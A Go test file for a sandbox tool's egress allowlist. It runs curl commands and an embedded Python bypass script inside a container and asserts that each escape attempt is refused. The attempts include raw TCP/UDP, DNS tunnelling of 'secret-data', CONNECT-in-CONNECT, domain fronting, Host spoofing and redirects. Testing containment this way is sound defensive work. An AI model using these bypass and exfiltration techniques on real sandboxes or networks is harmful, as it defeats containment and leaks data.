package sandbox

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/moby/moby/api/types/container"
	"github.com/moby/moby/api/types/mount"
	"github.com/moby/moby/client"

	"github.com/sandboxctl/sandboxctl/egress"
	"github.com/sandboxctl/sandboxctl/internal/dockertest"
	"github.com/sandboxctl/sandboxctl/internal/testbuild"
)

// upstream is a testupstream container on an internal network of its own:
// the proxy (on the host) reaches it, the sandbox must not.
type upstream struct {
	IP     netip.Addr
	logDir string
	caPEM  []byte
}

// names the upstream's certificate and resolver serve.
var upstreamNames = []string{"allowed.test", "a.wild.test", "wild.test", "denied.test", "rest.test"}

// log is everything that reached the upstream so far.
func (u *upstream) log(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(u.logDir, "log"))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func startUpstream(t *testing.T, flags ...string) *upstream {
	t.Helper()
	cli := dockertest.Require(t, "sandboxctl/testbb:1", DefaultImage)
	ctx := ctxT(t)
	dir := t.TempDir()
	if _, err := testbuild.Package(dir, "egress/internal/testupstream"); err != nil {
		t.Fatal(err)
	}
	caPEM := writeTestCerts(t, dir, upstreamNames)
	out := t.TempDir()
	if err := os.Chmod(out, 0o777); err != nil {
		t.Fatal(err)
	}
	netName := "sbxt-egress-up-" + randHex(4)
	if _, err := cli.NetworkCreate(ctx, netName, client.NetworkCreateOptions{Driver: "bridge", Internal: true, Labels: testLabels()}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _, _ = cli.NetworkRemove(ctxT(t), netName, client.NetworkRemoveOptions{}) })
	names := []string{}
	for _, n := range upstreamNames {
		names = append(names, n+"=self")
	}
	created, err := cli.ContainerCreate(ctx, client.ContainerCreateOptions{
		Name: netName,
		Config: &container.Config{Image: "sandboxctl/testbb:1", Labels: testLabels(), User: "0:0",
			Cmd: append([]string{"/up/testupstream", "-log", "/out/log", "-cert", "/up/cert.pem", "-key", "/up/key.pem",
				"-names", strings.Join(names, ","), "-raw", "5555", "-udp", "5555"}, flags...)},
		HostConfig: &container.HostConfig{NetworkMode: container.NetworkMode(netName), Mounts: []mount.Mount{
			{Type: mount.TypeBind, Source: dir, Target: "/up", ReadOnly: true},
			{Type: mount.TypeBind, Source: out, Target: "/out"},
		}},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_, _ = cli.ContainerRemove(ctxT(t), created.ID, client.ContainerRemoveOptions{Force: true})
	})
	if _, err := cli.ContainerStart(ctx, created.ID, client.ContainerStartOptions{}); err != nil {
		t.Fatal(err)
	}
	u := &upstream{logDir: out, caPEM: caPEM}
	deadline := time.Now().Add(time.Minute)
	for time.Now().Before(deadline) {
		if b, _ := os.ReadFile(filepath.Join(out, "log")); strings.Contains(string(b), "ready") {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if !strings.Contains(u.log(t), "ready") {
		t.Fatal("the upstream did not start")
	}
	insp, err := cli.ContainerInspect(ctx, created.ID, client.ContainerInspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	u.IP = insp.Container.NetworkSettings.Networks[netName].IPAddress
	if !u.IP.IsValid() {
		t.Fatal("the upstream has no address")
	}
	return u
}

// writeTestCerts writes a test CA and a certificate for names into dir
// (cert.pem, key.pem) and returns the CA's PEM.
func writeTestCerts(t *testing.T, dir string, names []string) []byte {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "sandboxctl egress test CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	caDER, err := x509.CreateCertificate(rand.Reader, ca, ca, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	caCert, _ := x509.ParseCertificate(caDER)
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	leaf := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, leaf, caCert, &key.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	kb, _ := x509.MarshalECPrivateKey(key)
	caPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})
	for name, b := range map[string][]byte{
		"cert.pem": pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}),
		"key.pem":  pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kb}),
	} {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return caPEM
}

// decisions records what the gateways decided.
type decisions struct {
	mu  sync.Mutex
	all []egress.Decision
}

func (d *decisions) EgressDecided(x egress.Decision) {
	d.mu.Lock()
	d.all = append(d.all, x)
	d.mu.Unlock()
}

func (d *decisions) find(f func(egress.Decision) bool) (egress.Decision, bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	for _, x := range d.all {
		if f(x) {
			return x, true
		}
	}
	return egress.Decision{}, false
}

// bypassScript tries what item 2 of docs/egress.md lists, from inside the
// sandbox; each attempt prints "NAME: ok" when something came back.
const bypassScript = `
import os, socket, ssl, subprocess, sys
UP = sys.argv[1]
GW = os.environ["HTTPS_PROXY"].split("//")[1].split(":")[0]
def attempt(name, f):
    try:
        r = f()
        print(name + ": ok " + repr(r)[:80])
    except Exception as e:
        print(name + ": refused " + type(e).__name__ + " " + str(e)[:80])
def tcp(host, port, data=b"GET / HTTP/1.0\r\n\r\n"):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(data)
    r = s.recv(100)
    if not r: raise EOFError("closed")
    return r
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"x" * 10, (UP, 5555))
    return s.recvfrom(10)
def dns_direct():
    q = bytes.fromhex("abcd01000001000000000000") + b"\x0bsecret-data\x06denied\x04test\x00\x00\x01\x00\x01"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(q, (UP, 53)); return s.recvfrom(512)
def connect_in_connect():
    s = socket.create_connection((GW, 3128), timeout=5)
    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
    r = s.recv(200)
    if b" 200 " not in r: raise EOFError(r)
    s.sendall(b"CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n\r\n")
    r = s.recv(200)
    if not r: raise EOFError("closed")
    return r
def ipv6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(3)
    s.connect(("fe80::1%eth0", 443)); return "connected"
attempt("raw-tcp", lambda: tcp(UP, 5555))
attempt("raw-tcp-443", lambda: tcp(UP, 443))
attempt("udp", udp)
attempt("dns-direct", dns_direct)
attempt("dns-resolver", lambda: socket.gethostbyname("secret-data.denied.test"))
attempt("connect-in-connect", connect_in_connect)
attempt("ipv6", ipv6)
attempt("gateway-other-port", lambda: tcp(GW, 5555))
attempt("host-service", lambda: tcp(GW, int(sys.argv[2])))
`

// TestSecurityEgressAllowlistHolds runs an allowlist sandbox (the sandbox image,
// with curl and python) against an upstream that logs every arrival: the
// allowed names work through the proxy variables and without them, and
// every bypass is refused with no byte reaching the upstream.
func TestSecurityEgressAllowlistHolds(t *testing.T) { checkAllowlistHolds(t, "") }

// checkAllowlistHolds is TestSecurityEgressAllowlistHolds under runtime rt
// ("" = the Engine's default).
func checkAllowlistHolds(t *testing.T, rt string) {
	up := startUpstream(t)
	obs := &decisions{}
	m := newManagerOpts(t, func(o *Options) {
		o.Config.Docker.Image = DefaultImage
		o.Config.Docker.Runtime = rt
		o.Config.Network = NetworkConfig{Egress: "allowlist", UpstreamDNS: up.IP.String(), Allow: []AllowRule{
			{Domain: "allowed.test"},
			{Domain: "*.wild.test"},
			{Domain: "rest.test", Methods: []string{"GET"}, Paths: []string{"/ok/"}},
		}}
		o.EgressObserver = obs
	})
	s := Scope{AgentID: "egress-" + randHex(3)}
	ctx := ctxT(t)
	run := func(script string) (string, int) {
		t.Helper()
		out, code, err := m.Run(ctx, s, []string{"bash", "-c", script})
		if err != nil {
			t.Fatalf("%s: %v", script, err)
		}
		return out, code
	}
	// The CA for curl, through the workspace.
	if out, _ := run("dmesg 2>/dev/null | head -n 1"); gvisorRuntime(rt) != strings.Contains(out, "gVisor") {
		t.Fatalf("runtime %q, but dmesg says %q", rt, out)
	}
	_, _, ws, _ := m.Layout(s)
	if err := os.WriteFile(filepath.Join(ws, "ca.pem"), up.caPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "bypass.py"), []byte(bypassScript), 0o644); err != nil {
		t.Fatal(err)
	}
	curl := "curl -sS --max-time 20 --cacert /workspace/ca.pem "

	works := map[string]string{
		"https via HTTPS_PROXY":        curl + "https://allowed.test/p1",
		"https without proxy vars":     "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; " + curl + "https://allowed.test/p2",
		"http via HTTP_PROXY":          curl + "http://allowed.test/p3",
		"http without proxy vars":      curl + "--noproxy '*' http://allowed.test/p4",
		"wildcard":                     curl + "https://a.wild.test/p5",
		"method and path rule":         curl + "http://rest.test/ok/p6",
		"redirect to an allowed host":  curl + "-L 'https://allowed.test/r?to=https://a.wild.test/p7'",
		"python urllib via proxy vars": "python3 -c 'import ssl,urllib.request as u; print(u.urlopen(\"https://allowed.test/p8\", context=ssl.create_default_context(cafile=\"/workspace/ca.pem\")).read().decode())'",
	}
	for name, script := range works {
		out, code := run(script)
		if code != 0 || !strings.Contains(out, "hello from") {
			t.Errorf("%s: exit %d, %q", name, code, out)
		}
	}
	// git over https through the proxy variables: the upstream is no git
	// server, so the proof is its request arriving.
	run("GIT_SSL_CAINFO=/workspace/ca.pem GIT_TERMINAL_PROMPT=0 git ls-remote https://allowed.test/g.git")
	marker := "m" + randHex(4)
	refused := map[string]string{
		"https denied name":                             curl + "https://denied.test/" + marker,
		"https denied name, no vars":                    curl + "--noproxy '*' https://denied.test/" + marker,
		"wildcard apex":                                 curl + "https://wild.test/" + marker,
		"ip literal via proxy":                          curl + "https://" + up.IP.String() + "/" + marker,
		"ip literal direct":                             curl + "--noproxy '*' -k https://" + up.IP.String() + "/" + marker,
		"domain fronting (CONNECT allowed, SNI denied)": curl + "-p --connect-to denied.test:443:allowed.test:443 https://denied.test/" + marker,
		"domain fronting, transparent":                  curl + "--noproxy '*' --connect-to denied.test:443:allowed.test:443 https://denied.test/" + marker,
		"Host differs, plain http transparent":          curl + "--noproxy '*' --connect-to denied.test:80:allowed.test:80 http://denied.test/" + marker,
		"Host differs, plain http via proxy":            curl + "-H 'Host: denied.test' --noproxy '*' http://allowed.test/" + marker,
		"redirect to a denied host":                     curl + "-fL 'https://allowed.test/r?to=https://denied.test/" + marker + "'",
		"http2 prior knowledge":                         curl + "--noproxy '*' --http2-prior-knowledge http://allowed.test/" + marker,
		"method not allowed":                            curl + "-f -X POST http://rest.test/ok/" + marker,
		"path not allowed":                              curl + "-f http://rest.test/no/" + marker,
		"unset proxy vars, ip":                          "unset HTTPS_PROXY https_proxy; " + curl + "-k https://" + up.IP.String() + "/" + marker,
	}
	for name, script := range refused {
		out, code := run(script)
		if code == 0 && strings.Contains(out, "hello from") {
			t.Errorf("%s: got through: %q", name, out)
		}
	}
	// A service of the host listening on all addresses: the gateway
	// address is the host's, so only the fence keeps the sandbox from it.
	hostSvc, err := net.Listen("tcp", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	defer hostSvc.Close()
	var hostHits atomic.Int32
	go func() {
		for {
			c, err := hostSvc.Accept()
			if err != nil {
				return
			}
			hostHits.Add(1)
			_, _ = c.Write([]byte("host service\n"))
			_ = c.Close()
		}
	}()
	out, _ := run(fmt.Sprintf("python3 /workspace/bypass.py %s %d", up.IP, hostSvc.Addr().(*net.TCPAddr).Port))
	if n := hostHits.Load(); n != 0 {
		t.Errorf("a host service took %d connections from the sandbox", n)
	}
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		if !strings.Contains(line, ": refused") {
			t.Errorf("bypass got an answer: %s", line)
		}
	}
	if !gvisorRuntime(rt) {
		if out, _ := run("cat /proc/sys/net/ipv6/conf/all/disable_ipv6"); strings.TrimSpace(out) != "1" {
			t.Errorf("IPv6 is on in the sandbox: %q", out)
		}
	} else {
		// gVisor's /proc has no such file: look at the host kernel's view
		// of the sandbox's network namespace, whose sockets gVisor uses.
		if v6 := hostNetnsIPv6(t, m, s); v6 != "" {
			t.Errorf("the gVisor sandbox's network namespace has IPv6 addresses:\n%s", v6)
		}
	}

	// The proof: nothing refused reached the upstream.
	log := up.log(t)
	for _, bad := range []string{" /" + marker, "http denied.test", "dns denied.test", "secret-data", "tcp ", "udp ", "/no/", "POST"} {
		if strings.Contains(log, bad) {
			t.Errorf("the upstream saw %q:\n%s", bad, log)
		}
	}
	for _, p := range []string{"/p1", "/p2", "/p3", "/p4", "/p5", "/ok/p6", "/p7", "/p8", "/g.git/info/refs?service=git-upload-pack"} {
		if !strings.Contains(log, p) {
			t.Errorf("the upstream never saw %s:\n%s", p, log)
		}
	}
	// Every decision is reported: an allowed connection with its bytes and
	// rule, a denied one with its reason.
	if d, ok := obs.find(func(d egress.Decision) bool {
		return d.Allowed && d.Host == "allowed.test" && d.Kind == egress.KindConnect
	}); !ok || d.BytesIn == 0 || d.BytesOut == 0 || d.Rule != "allowed.test" {
		t.Errorf("no allowed CONNECT decision with bytes and rule: %+v", d)
	}
	if d, ok := obs.find(func(d egress.Decision) bool { return !d.Allowed && d.Host == "denied.test" }); !ok || d.Reason == "" {
		t.Errorf("no denied decision for denied.test: %+v", d)
	}
	if _, ok := obs.find(func(d egress.Decision) bool {
		return d.Kind == egress.KindDNS && !d.Allowed && strings.HasPrefix(d.Host, "secret-data")
	}); !ok {
		t.Error("no denied DNS decision for the tunnelling attempt")
	}
	ex, err := m.Explain(ctx, s)
	if err != nil {
		t.Fatal(err)
	}
	if ex.Egress.Mode != "allowlist" || len(ex.Egress.Rules) != 3 || ex.Egress.Rules[2] != "rest.test methods [GET] paths [/ok/]" || ex.Egress.Proxy == "" {
		t.Errorf("explain: %+v", ex.Egress)
	}
	if t.Failed() {
		fmt.Println(log)
	}
}

// TestSecurityEgressAllowlistUnderGVisor: an allowlist sandbox under
// gVisor. Under runsc-net (the container's network namespace) the allowed
// names work and every bypass of TestSecurityEgressAllowlistHolds is
// refused with no byte reaching the upstream. Under runsc as `make
// docker-up` registers it (--network=none) the sandbox would have no
// interface at all, so it is refused with a config error naming runsc-net,
// and nothing is made or reached (docs/egress.md, "gVisor").
func TestSecurityEgressAllowlistUnderGVisor(t *testing.T) {
	t.Run(RuntimeRunscNet, func(t *testing.T) {
		requireRuntime(t, RuntimeRunscNet)
		checkAllowlistHolds(t, RuntimeRunscNet)
	})
	t.Run(RuntimeRunsc+" is refused", func(t *testing.T) {
		requireRuntime(t, RuntimeRunsc)
		up := startUpstream(t)
		m := newManagerOpts(t, func(o *Options) {
			o.Config.Docker.Image = DefaultImage
			o.Config.Docker.Runtime = RuntimeRunsc
			o.Config.Network = NetworkConfig{Egress: "allowlist", UpstreamDNS: up.IP.String(), Allow: []AllowRule{{Domain: "allowed.test"}}}
		})
		s := Scope{AgentID: "egress-gvisor-" + randHex(3)}
		ctx := ctxT(t)
		out, _, err := m.Run(ctx, s, []string{"bash", "-c", "curl -sS -k --max-time 10 https://allowed.test/g1; curl -sS -k --max-time 10 --noproxy '*' https://" + up.IP.String() + "/g2"})
		if !errors.Is(err, ErrInvalidConfig) || !strings.Contains(err.Error(), "--network=none") || !strings.Contains(err.Error(), RuntimeRunscNet) {
			t.Fatalf("allowlist under runsc (--network=none): err %v, out %q; want a config error naming %s", err, out, RuntimeRunscNet)
		}
		all, err := m.List(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for _, in := range all {
			if in.AgentID == s.AgentID {
				t.Errorf("a sandbox was left behind: %s", in.Name)
			}
		}
		if log := up.log(t); strings.Contains(log, "/g1") || strings.Contains(log, "/g2") || strings.Contains(log, "conn ") {
			t.Errorf("the upstream saw the gVisor sandbox:\n%s", log)
		}
	})
}

// TestEgressPerAgentRules: sandbox.network.agents replaces the allow list
// for the agent it names; another agent keeps the top-level list.
func TestEgressPerAgentRules(t *testing.T) {
	up := startUpstream(t)
	m := newManagerOpts(t, func(o *Options) {
		o.Config.Docker.Image = DefaultImage
		o.Config.Network = NetworkConfig{Egress: "allowlist", UpstreamDNS: up.IP.String(),
			Allow:  []AllowRule{{Domain: "allowed.test"}},
			Agents: map[string][]AllowRule{"narrow": {{Domain: "a.wild.test"}}}}
	})
	ctx := ctxT(t)
	curl := func(agent, url string) string {
		t.Helper()
		out, _, err := m.Run(ctx, Scope{AgentID: agent}, []string{"curl", "-sS", "-k", "--max-time", "20", url})
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	if out := curl("narrow", "https://a.wild.test/n1"); !strings.Contains(out, "hello from") {
		t.Errorf("narrow agent, its own rule: %q", out)
	}
	if out := curl("narrow", "https://allowed.test/n2"); strings.Contains(out, "hello from") {
		t.Errorf("narrow agent reached the top-level rule's host: %q", out)
	}
	if out := curl("wide", "https://allowed.test/w1"); !strings.Contains(out, "hello from") {
		t.Errorf("another agent, the top-level rule: %q", out)
	}
	if out := curl("wide", "https://a.wild.test/w2"); strings.Contains(out, "hello from") {
		t.Errorf("another agent reached the narrow agent's host: %q", out)
	}
	log := up.log(t)
	if strings.Contains(log, "/n2") || strings.Contains(log, "/w2") || !strings.Contains(log, "/n1") || !strings.Contains(log, "/w1") {
		t.Errorf("upstream log:\n%s", log)
	}
	ex, err := m.Explain(ctx, Scope{AgentID: "narrow"})
	if err != nil {
		t.Fatal(err)
	}
	if len(ex.Egress.Rules) != 1 || ex.Egress.Rules[0] != "a.wild.test" || !strings.Contains(ex.Egress.Note, "sandbox.network.agents.narrow") {
		t.Errorf("explain of the narrow agent: %+v", ex.Egress)
	}
}

// requireRuntime skips t when the Engine has no runtime rt
// (scripts/docker-up.sh registers runsc and runsc-net).
func requireRuntime(t *testing.T, rt string) {
	t.Helper()
	cli := dockertest.Require(t)
	info, err := cli.Info(ctxT(t), client.InfoOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := info.Info.Runtimes[rt]; !ok {
		t.Skipf("the Engine has no runtime %s (scripts/docker-up.sh registers it)", rt)
	}
}

// hostNetnsIPv6 returns the IPv6 addresses of the network namespace of
// scope s's sandbox as this host's kernel sees it (/proc/PID/net/if_inet6
// of the container's process; "" = none: IPv6 is off in it).
func hostNetnsIPv6(t *testing.T, m *Manager, s Scope) string {
	t.Helper()
	all, err := m.List(ctxT(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range all {
		if in.AgentID != s.AgentID {
			continue
		}
		insp, err := m.first().cli.ContainerInspect(ctxT(t), in.ID, client.ContainerInspectOptions{})
		if err != nil || insp.Container.State == nil || insp.Container.State.Pid <= 0 {
			t.Fatalf("inspect %s: %v", in.Name, err)
		}
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/net/if_inet6", insp.Container.State.Pid))
		if err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		return strings.TrimSpace(string(b))
	}
	t.Fatalf("no sandbox of agent %s", s.AgentID)
	return ""
}
